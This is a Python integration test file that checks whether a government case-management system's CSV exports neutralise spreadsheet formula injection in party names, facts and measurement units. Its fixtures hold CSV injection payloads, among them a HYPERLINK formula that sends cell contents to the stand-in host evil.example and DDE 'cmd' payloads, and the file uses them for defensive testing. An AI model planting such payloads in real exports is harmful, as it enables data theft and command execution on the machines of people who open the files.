"""CSV injection (issue 14, item 2): no CSV the system writes lets a spreadsheet run a cell as a formula.

Hostile text enters through the ordinary write APIs (party names, facts, reading units) and every CSV export is read
back as a spreadsheet would: a cell starting with ``=``, ``+``, ``-``, ``@`` (also after spaces, and their full-width
forms) or with a tab or carriage return must carry a leading ``'``, unless it is a plain number. The JSON answers
keep the values as entered. ``shared.csv_export`` is the one writer; hypothesis checks it on any text.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.csv_export import csv_text, is_dangerous
from tests.factories import decision_body
from tests.stack import eventually
from tests.support.system import System

pytestmark = pytest.mark.integration

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?d="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "＝1+1 全角",
    "  =1+1",
)
HOSTILE_FACTS = ("\t=1+1 超标排放", "\r=1+1 超标排放", "-2+3 超标排放")
FORMULA_STARTS = tuple("=+-@＝＋－＠")


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    """What a spreadsheet would see: every cell is a number or starts with a harmless character."""
    for row in rows:
        for cell in row:
            assert not is_dangerous(cell), (cell, row)


async def issue_hostile(system: System, marker: str) -> list[dict[str, Any]]:
    """Penalties whose party names and facts are formulas; they publish themselves (the fixture's publish mode)."""
    bodies = []
    for index, name in enumerate(HOSTILE_NAMES):
        body = decision_body()
        body["party"]["name"] = f"{name}{marker}"
        body["facts"] = HOSTILE_FACTS[index % len(HOSTILE_FACTS)] + marker
        bodies.append(body)
    async with system.client(system.staff_token("head", subject="head-csv")) as head:
        for body in bodies:
            answer = await head.post("/api/v1/cases/decisions", json=body)
            assert answer.status_code == 201, answer.text
    return bodies


@pytest.fixture(scope="module")
async def hostile(system: System) -> tuple[str, list[dict[str, Any]]]:
    marker = uuid.uuid4().hex[:8]
    bodies = await issue_hostile(system, marker)

    async def all_public() -> list[dict[str, Any]] | None:
        async with system.client() as public:
            items = (await public.get("/public/v1/decisions", params={"q": marker, "limit": 100})).json()["items"]
        return items if len(items) == len(bodies) else None

    await eventually(all_public)
    return marker, bodies


async def test_public_decisions_csv_is_neutralised_and_json_unchanged(
    system: System, hostile: tuple[str, list[dict[str, Any]]]
) -> None:
    marker, bodies = hostile
    async with system.client() as public:
        listed = (await public.get("/public/v1/decisions", params={"q": marker, "limit": 100})).json()["items"]
        answer = await public.get("/public/v1/decisions.csv", params={"q": marker})
    assert sorted(item["party_name"] for item in listed) == sorted(b["party"]["name"] for b in bodies)
    assert {item["facts"] for item in listed} == {b["facts"] for b in bodies}
    assert answer.text.startswith("\ufeff")  # still made for Excel
    rows = parse(answer.text)
    assert len(rows) == len(bodies) + 1
    assert_no_formula(rows)
    names = {row[rows[0].index("当事人")] for row in rows[1:]}
    assert names == {"'" + b["party"]["name"] for b in bodies}
    facts = {row[rows[0].index("主要违法事实")] for row in rows[1:]}
    assert facts == {"'" + b["facts"] for b in bodies}
    assert {row[rows[0].index("罚款（元）")] for row in rows[1:]} == {"100000.00"}


async def test_credit_china_csv_is_neutralised_and_json_unchanged(
    system: System, hostile: tuple[str, list[dict[str, Any]]]
) -> None:
    marker, bodies = hostile
    async with system.client(system.staff_token("disclosure_editor")) as editor:

        async def ledger() -> list[dict[str, Any]] | None:
            items = (await editor.get("/api/v1/disclosure/credit-china/records")).json()["items"]
            mine = [r for r in items if marker in r["fields"].get("party_name", "")]
            return mine if len(mine) == len(bodies) else None

        records = await eventually(ledger)
        answer = await editor.get("/api/v1/disclosure/credit-china/records.csv")
    assert {r["fields"]["party_name"] for r in records} == {b["party"]["name"] for b in bodies}
    assert answer.text.startswith("\ufeff")
    rows = parse(answer.text)
    assert_no_formula(rows)
    name_column = rows[0].index("行政相对人名称*")
    mine = [row for row in rows[1:] if marker in row[name_column]]
    assert {row[name_column] for row in mine} == {"'" + b["party"]["name"] for b in bodies}
    facts = {row[rows[0].index("违法事实*")] for row in mine}
    assert all(fact.startswith("'") for fact in facts), facts


async def test_statistics_csv_quotes_every_cell_and_keeps_numbers(
    system: System, hostile: tuple[str, list[dict[str, Any]]]
) -> None:
    async with system.client(system.staff_token("head")) as head:
        report = (await head.get("/api/v1/cases/statistics", params={"year": 2021})).json()
        answer = await head.get("/api/v1/cases/statistics", params={"year": 2021, "format": "csv"})
    assert answer.text.splitlines()[0] == '"metric","value"'
    table = parse(answer.text)
    assert_no_formula(table)
    rows = dict(table[1:])
    assert rows["fines_total_fen"] == str(report["fines_total_fen"]) != "0"
    assert rows["decisions_by_kind.penalty"] == str(report["decisions_by_kind"]["penalty"])


async def test_readings_csv_guards_units_and_keeps_negative_values(system: System) -> None:
    station = f"CSV{uuid.uuid4().hex[:8].upper()}"
    body = {"code": station, "kind": "air_station", "name": "测试站点", "town": "杨柳青镇", "level": "district"}
    day = date(2021, 1, 5).isoformat()
    units = ["=1+1", "@SUM(A1)", "-2+3", "+cmd|'/C calc'!A0"]
    rows: list[dict[str, Any]] = [
        {"station": station, "parameter": "pm25", "time": f"{day}T0{h}:00:00+08:00", "value": v, "unit": unit}
        for h, (v, unit) in enumerate(zip([-12.5, 3.0, -0.5, 7.0], units, strict=True))
    ]
    params = {"station": station, "parameter": "pm25", "start": f"{day}T00:00:00+08:00", "end": f"{day}T06:00:00+08:00"}
    async with system.client(system.staff_token("admin")) as admin:
        assert (
            await admin.post("/api/v1/monitoring/stations", json=body | {"parameters": ["pm25"]})
        ).status_code == 201
        stored = await admin.post("/api/v1/monitoring/readings:batch", json=rows)
        assert stored.json()["stored"] == len(rows), stored.text
        as_json = (await admin.get("/api/v1/monitoring/readings", params=params)).json()["items"]
        answer = await admin.get("/api/v1/monitoring/readings", params=params | {"format": "csv"})
    assert [item["unit"] for item in as_json] == units
    table = parse(answer.text)
    assert_no_formula(table)
    unit, value = table[0].index("unit"), table[0].index("value")
    assert [row[unit] for row in table[1:]] == ["'" + u for u in units]
    assert [row[value] for row in table[1:]] == ["-12.5", "3.0", "-0.5", "7.0"]  # numbers stay numbers


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False)), min_size=1, max_size=4)))
def test_no_cell_of_the_writer_starts_a_formula(rows: list[list[object]]) -> None:
    """Whatever the cells, none read back starts with a formula or control character unless it is a number."""
    header = ["a", "b", "c", "d"]
    for row in parse(csv_text(header, rows, bom=True))[1:]:
        for cell in row:
            head = cell.strip()[:1]
            if cell[:1] in ("\t", "\r", "\n") or head in FORMULA_STARTS:
                float(cell)  # only a plain number may start so
